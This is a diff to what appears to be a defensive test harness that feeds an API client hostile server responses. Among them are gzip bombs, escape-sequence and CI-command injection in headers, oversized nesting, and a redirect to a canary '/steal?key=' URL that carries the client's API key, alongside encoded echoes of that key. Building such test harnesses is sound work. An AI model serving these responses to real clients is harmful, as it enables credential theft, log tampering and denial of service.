@@ -1,8 +1,11 @@
 """The catalogue of hostile endpoints: each a small function from what was asked to the bytes that are sent."""
 
+import base64
 import gzip
 import json
+import re
 import zlib
+from collections.abc import Callable
 from functools import partial
 
 from hostile_endpoints import (
@@ -14,6 +17,7 @@ from hostile_endpoints import (
     ODD,
     Asked,
     Attack,
+    Pieces,
     block_of_type,
     blocks,
     body_of,
@@ -150,6 +154,81 @@ INVENTIONS: dict[str, Attack] = {
     "sent_early": lambda a: b"HTTP/1.1 102 Processing\r\n\r\n" + b"HTTP/1.1 199 X\r\n\r\n" + good(a),
 }
 """Those that were made up beside the others: odd framing, odd events, odd JSON, odd names."""
+
+
+def _drip_of_json(asked: Asked) -> Pieces:
+    """A good answer, of which each piece alone is whole: white space, or comments, before its end."""
+    body = body_of(asked)
+    pieces = [b": x\n\n"] * 60 if asked.streams else [b" "] * 60
+    size = len(body) + sum(map(len, pieces))
+    return slowly(response(b"", kind=kind_of(asked), length=size), *pieces, body, pause=0.2)
+
+
+def _spelled(asked: Asked, spell: Callable[[bytes], bytes]) -> bytes:
+    """The key of the request, in a spelling, where the text of a good answer stands, in its id and in a header."""
+    given = re.search(rb"x-api-key: ([^\r\n]*)", asked.raw, re.IGNORECASE)
+    key = spell(given[1] if given else b"no key")
+    body = body_of(asked).replace(asked.text.encode(), key).replace(b'"id": "msg_', b'"id": "' + key)
+    return response(body, f"x-echo: {key.decode()}", kind=kind_of(asked))
+
+
+def _to_the_key(asked: Asked) -> bytes:
+    """A redirect to the canary that takes the key along."""
+    given = re.search(rb"x-api-key: ([^\r\n]*)", asked.raw, re.IGNORECASE)
+    return _redirected(asked, 307, "{canary}/steal?key=" + (given[1].decode() if given else ""))
+
+
+SPELLED: dict[str, Callable[[bytes], bytes]] = {
+    "percent_escapes": lambda key: b"".join(b"%%%02x" % sign for sign in key),
+    "base64": lambda key: base64.b64encode(b"x-api-key: " + key),
+    "percent_escapes_of_base64": lambda key: b"".join(b"%%%02X" % sign for sign in base64.b64encode(key)),
+    "hexadecimal_backwards": lambda key: key[::-1].hex().encode(),
+    "letters_of_json": lambda key: b"".join(b"\\u%04x" % sign for sign in key),
+}
+"""How an answer spells the key that it was asked with."""
+
+MORE: dict[str, Attack] = {
+    "drip_of_white_space": _drip_of_json,
+    "gzip_twice_and_named_once": lambda a: response(
+        gzip.compress(gzip.compress(body_of(a))), "content-encoding: gzip", kind=kind_of(a)
+    ),
+    "gzip_by_another_name": lambda a: response(gzip.compress(body_of(a)), "content-encoding: x-gzip", kind=kind_of(a)),
+    "bomb_behind_a_good_answer": lambda a: response(
+        gzip.compress(body_of(a)) + BOMB, "content-encoding: gzip", kind=kind_of(a)
+    ),
+    "bomb_in_a_refusal": lambda a: response(BOMB, "content-encoding: gzip", status="400 X"),
+    "chunk_extensions_by_the_thousand": lambda a: (
+        stream_head("transfer-encoding: chunked") + (b"1;" + b"a=b;" * 2000 + b"\r\n:\r\n") * 2000
+    ),
+    "lengths_that_agree": lambda a: good(a).replace(
+        b"request-id: ", b"content-length: %d\r\nrequest-id: " % len(body_of(a)), 1
+    ),
+    "chunks_and_a_longer_length": lambda a: chunked(a, f"content-length: {len(body_of(a)) + 200}"),
+    "hints_with_commands": lambda a: b"HTTP/1.1 103 ::error::x\x1b[31m\r\nlink: \x1b]0;t\x07\r\n\r\n" * 20 + good(a),
+    "hints_of_a_megabyte": lambda a: b"HTTP/1.1 103 X\r\nx: " + b"y" * 1_000_000 + b"\r\n\r\n" + good(a),
+    "trailers_of_commands": lambda a: chunked(a, last=b"0\r\nx-a: ::error::x\r\nx-b: \x1b[31m\xff\r\n\r\n"),
+    "commands_in_headers": lambda a: response(
+        body_of(a), "request-id: ::error::x", "server: ##[error]x", "x-a: \x9b31m\t::add-mask::x", kind=kind_of(a)
+    ),
+    "commands_in_a_stream_error": lambda a: _events(
+        a, start() + event({"type": "error", "error": {"type": HTML, "message": ODD}})
+    ),
+    "ids_by_the_thousand": lambda a: _events(
+        a, b"".join(b"id: %d\nretry: 0\n\n" % n for n in range(50_000)) + _whole(a)
+    ),
+    "nested_in_strings": lambda a: used(a, CALL, json.dumps("[" * 100_000)),
+    "nested_in_a_delta": lambda a: used(a, CALL, '{"a":' * 20_000 + "1" + "}" * 20_000),
+    "a_redirect_with_the_key": _to_the_key,
+    "a_redirect_that_is_a_good_answer": lambda a: good(a).replace(b"200 OK", b"302 X\r\nlocation: /v1/models", 1),
+    **{f"key_in_{name}": partial(_spelled, spell=spell) for name, spell in SPELLED.items()},
+    "nothing_but_nul": lambda a: b"\0" * 100_000,
+    "nul_before_an_answer": lambda a: b"\0" + good(a),
+    "a_request_in_place_of_an_answer": lambda a: a.raw,
+    "an_answer_of_a_proxy": lambda a: b"HTTP/1.1 200 Connection established\r\n\r\n" + good(a),
+    "http09_that_never_ends": lambda a: endless(b"", b"<html>::error::x\x1b[31m\n" * 1000),
+    "authenticate": lambda a: response(b"", 'www-authenticate: Digest realm="x", nonce="y"', status="401 X"),
+}
+"""Those that were made up last: what two of the others do, at once."""
 
 CATALOGUE: dict[str, Attack] = {
     # sizes and times
@@ -375,7 +454,26 @@ CATALOGUE: dict[str, Attack] = {
     "busy_without_a_word": lambda a: response(b"", status="503 X"),
     "overloaded": lambda a: refusal("busy", "529 X", type="overloaded_error"),
     **INVENTIONS,
+    **MORE,
 }
+
+LATE: dict[str, Attack] = {
+    "late_503": lambda a: response(b"", status="503 X"),
+    "late_503_with_a_page": lambda a: response(b"<html>no server</html>", status="503 X", kind="text/html"),
+    "late_503_for_a_day": lambda a: refusal("busy", "503 X", "retry-after: 86400", type="api_error"),
+    "late_loading": lambda a: response(b'{"error":{"code":503,"message":"Loading model"}}', status="503 X"),
+    "late_429": partial(_busy, wait="0"),
+    "late_529": lambda a: refusal("busy", "529 X", type="overloaded_error"),
+    "late_500": lambda a: refusal("broken", "500 X", type="api_error"),
+    "late_401": lambda a: refusal("who are you", "401 X", type="authentication_error"),
+    "late_silence": lambda a: then_silence(b""),
+    "late_close": lambda a: b"",
+    "late_redirect": partial(_redirected, status=307, to="/v1/messages"),
+    "late_another_protocol": lambda a: b"SSH-2.0-OpenSSH_9.2 \x1b[31m\x00\xff\r\n",
+    "late_bomb": lambda a: response(BOMB, "content-encoding: gzip"),
+}
+"""Good for so many answers as `GOOD_FOR` says, and from then on this, whatever is asked."""
+GOOD_FOR = 2
 
 WAITS = frozenset(
     (
@@ -384,7 +482,8 @@ WAITS = frozenset(
         *("chunk_size_huge", "retry_after_bad_date", "retry_after_negative", "retry_after_odd", "retry_after_nan"),
         *("retry_after_infinite", "retry_after_digits", "retry_after_arabic", "retry_after_past", "retry_after_zero"),
         *("retry_after_over", "busy_without_a_word", "overloaded", "switched", "length_negative"),
-        "length_signed",
+        *("length_signed", "drip_of_white_space", "late_503", "late_503_with_a_page", "late_loading", "late_429"),
+        *("late_529", "late_silence"),
     )
 )
 """Those of which only a clock tells the end: they are asked side by side."""
